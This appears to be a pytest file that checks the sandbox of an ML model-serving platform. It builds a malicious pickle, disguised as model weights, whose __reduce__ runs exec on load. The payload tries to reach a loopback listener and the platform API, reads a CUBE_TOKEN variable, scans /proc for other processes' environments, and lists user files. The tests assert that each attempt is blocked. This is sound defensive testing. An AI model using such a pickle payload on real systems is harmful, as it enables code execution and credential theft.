"""A model that means harm: its pickle runs code on load. It reaches nobody, learns nothing, and is named."""

from __future__ import annotations

import json
import pickle
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from cubestudio_sdk import Client
from running import RunningStudio

CODE = """
import glob, json, os, socket, urllib.request
def tried(do):
    try:
        return repr(do())[:80]
    except Exception as error:
        return type(error).__name__
def lines(pattern):
    for path in glob.glob(pattern):
        return open(path, 'rb').read(9)
    raise FileNotFoundError
def environs():
    for name in os.listdir('/proc'):
        try:
            if name.isdigit() and b'CUBE_TOKEN' in open('/proc/' + name + '/environ', 'rb').read():
                return name
        except OSError:
            pass
    raise PermissionError
told = TARGETS
raise ValueError('found ' + json.dumps({
    'listener': tried(lambda: socket.create_connection(('127.0.0.1', told['port']), 3)),
    'studio': tried(lambda: urllib.request.urlopen(told['url'] + '/healthz', timeout=3).status),
    'datagram': tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)),
    'token': os.environ.get('CUBE_TOKEN', 'none'),
    'neighbours': tried(environs),
    'space': tried(lambda: lines(told['home'] + '/files/*/*')),
    'keys': tried(lambda: os.listdir(told['home'])),
}, sort_keys=True))
"""
OWN_CLASS = """
import pathlib, pickle
class Model:
    def load(self, folder):
        pickle.loads((pathlib.Path(folder) / 'weights.bin').read_bytes())
    def predict(self, rows):
        return [0 for _ in rows]
"""
KEEPER = {"command": "echo up; sleep 120"}
"""A neighbour in the same project whose variables hold a token."""


class Villain:
    """Its pickle runs code."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> Any:
        return exec, (self.code, {})


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """Somebody on loopback who would take what is carried out."""
    with socket.create_server(("127.0.0.1", 0)) as made:
        made.settimeout(0.2)
        yield made


def villain(studio: RunningStudio, listener: socket.socket) -> bytes:
    """The pickle."""
    told = {"port": listener.getsockname()[1], "url": studio.url, "home": str(studio.home)}
    return pickle.dumps(Villain(CODE.replace("TARGETS", repr(told))))


def found(text: str) -> dict[str, str]:
    """What it told of its tries, out of a sentence."""
    told: dict[str, str] = json.JSONDecoder().raw_decode(text[text.index("found ") + 6 :])[0]
    return told


def heard(listener: socket.socket) -> bool:
    """Whether anybody came."""
    try:
        listener.accept()[0].close()
    except TimeoutError:
        return False
    return True


def why_it_fails(client: Client, name: str) -> str:
    """What the service says of the replica that gave up."""
    until = time.monotonic() + 120
    while True:
        service = client.service(name)
        for replica in service["instances"]:
            if replica["reason"] == "ModelNotLoaded":
                return str(replica["text"])
        assert time.monotonic() < until, service
        time.sleep(0.2)


@pytest.fixture
def client(studio: RunningStudio) -> Client:
    return studio.client()


def test_a_service_of_it_fails_with_the_reason_and_nothing_got_out(
    client: Client, studio: RunningStudio, listener: socket.socket, tmp_path: Path
) -> None:
    client.upload(tmp_file(tmp_path, "secret.csv"), "secret.csv")
    neighbour = client.run(text=json.dumps({"pipeline": "neighbour", "tasks": {"keep": KEEPER}}))
    folder = tmp_path / "villain"
    folder.mkdir()
    (folder / "model.py").write_text(OWN_CLASS)
    (folder / "weights.bin").write_bytes(villain(studio, listener))
    client.import_model("villain", folder, format="python/1")
    client.describe_model("villain", 1, signature={"inputs": [{"name": "x", "type": "number"}]})
    client.deploy("villain", "villain", resources={"cpu": 0.1})
    assert found(why_it_fails(client, "villain")) == {
        "listener": "PermissionError",
        "studio": "URLError",
        "datagram": "PermissionError",
        "token": "none",
        "neighbours": "PermissionError",
        "space": "FileNotFoundError",
        "keys": "PermissionError",
    }
    assert not heard(listener)
    client.deploy("villain", "villain", resources={"cpu": 0.1}, egress=True)
    until = time.monotonic() + 60
    while not heard(listener):
        assert time.monotonic() < until, client.service("villain")
    client.delete_service("villain")
    client.stop(neighbour["id"])


def test_a_task_that_opens_it_has_no_token_and_no_way_out(
    client: Client, studio: RunningStudio, listener: socket.socket, tmp_path: Path
) -> None:
    model = tmp_path / "model"
    model.mkdir()
    about = {"format": "cube-tabular/1", "framework": "xgboost", "algorithm": "xgb", "task": "regression"}
    about |= {"label": "流失", "features": [{"name": "x", "kind": "number"}], "example": {"x": 1}}
    (model / "model.json").write_text(json.dumps(about))
    (model / "model.joblib").write_bytes(villain(studio, listener))
    client.import_model("villain-table", model)
    tasks = {"judge": {"template": "model-evaluation", "args": {"models": ["model://villain-table"],
             "test": "sample://customers"}}}  # fmt: skip
    ended = client.wait(client.run(text=json.dumps({"pipeline": "judge", "tasks": tasks})))
    assert ended["state"] == "Failed"
    told = found(client.log_text(ended["id"], "judge"))
    assert (told["listener"], told["studio"], told["token"]) == ("PermissionError", "URLError", "none")
    assert told["neighbours"] == "PermissionError"
    assert not heard(listener)


def tmp_file(folder: Path, name: str) -> Path:
    file = folder / name
    file.write_text("a\n1\n")
    return file
